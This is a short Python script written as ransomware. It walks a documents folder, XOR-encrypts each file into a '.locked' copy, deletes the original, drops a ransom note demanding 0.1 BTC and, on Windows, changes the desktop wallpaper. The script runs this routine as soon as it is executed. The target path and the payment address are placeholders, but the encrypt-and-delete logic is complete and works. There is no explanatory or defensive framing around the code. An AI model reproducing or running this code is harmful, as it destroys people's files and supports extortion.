import ctypes
import os

NOTE = "Your files are encrypted. Send 0.1 BTC to no-such-address to get them back."


def xor(data, key=b"k3y"):
    return bytes(b ^ key[i % 3] for i, b in enumerate(data))


def run(base="/nonexistent/Documents"):
    for folder, _, names in os.walk(base):
        for name in names:
            path = os.path.join(folder, name)
            with open(path, "rb") as f:
                body = xor(f.read())
            with open(path + ".locked", "wb") as f:
                f.write(body)
            os.remove(path)
    with open(os.path.join(base, "READ_ME.txt"), "w") as f:
        f.write(NOTE)
    if os.name == "nt":
        ctypes.windll.user32.SystemParametersInfoW(20, 0, "note.bmp", 3)


run()
